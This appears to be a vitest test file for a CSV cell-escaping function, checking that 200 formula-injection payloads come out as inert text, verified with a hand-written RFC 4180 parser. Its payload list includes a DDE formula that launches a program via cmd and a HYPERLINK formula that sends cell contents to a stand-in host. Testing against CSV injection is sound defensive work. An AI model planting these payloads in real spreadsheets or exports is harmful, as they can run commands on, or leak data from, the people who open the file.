import { expect, it } from "vitest";
import { csvCell } from "./neutral-cell.ts";

/** What makes a formula somewhere, and what is trimmed before one is looked for. */
const SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"];
const BEFORE = ["", " ", "\t", "\r", "\n", "\0", "\u00a0", "\ufeff", " \t ", "\r\n"];
const BODIES = ["cmd|'/c calc'!A0", 'HYPERLINK("https://x.example?"&A1,"go")'];
const PAYLOADS = SIGNS.flatMap((sign) =>
  BEFORE.flatMap((before) => BODIES.map((body) => `${before}${sign}${body}`)),
);

/** A reader of RFC 4180 of its own: a state machine, one character at a time. */
function parsed(text: string): string[][] {
  const rows: string[][] = [[""]];
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? "";
    const row = rows.at(-1) ?? [];
    const put = (more: string) => row.splice(-1, 1, `${row.at(-1) ?? ""}${more}`);
    if (quoted && sign === '"' && text[at + 1] === '"') {
      put('"');
      at += 1;
    } else if (sign === '"') quoted = !quoted;
    else if (quoted) put(sign);
    else if (sign === ",") row.push("");
    else if (sign === "\r" && text[at + 1] === "\n") {
      rows.push([""]);
      at += 1;
    } else put(sign);
  }
  return rows.slice(0, -1);
}

/** Whether a spreadsheet would calculate: the first sign after whatever is trimmed. */
const calculates = (cell: string) => /^[\s\0\ufeff]*[=+\-@|%＝＋－＠]/.test(cell) || /^[\t\r\n\0]/.test(cell);

it("leaves 200 formulas as text that an independent reader finds whole", () => {
  expect(PAYLOADS).toHaveLength(200);
  const text = PAYLOADS.map((payload, index) => `${index},${csvCell(payload)},"end"\r\n`).join("");
  const rows = parsed(text);
  expect(rows).toHaveLength(200);
  for (const [index, [number, cell = "", end]] of rows.entries()) {
    expect([number, end]).toEqual([String(index), "end"]);
    expect(calculates(cell), JSON.stringify(cell)).toBe(false);
    expect(cell).toBe(`'${PAYLOADS[index]}`);
  }
});
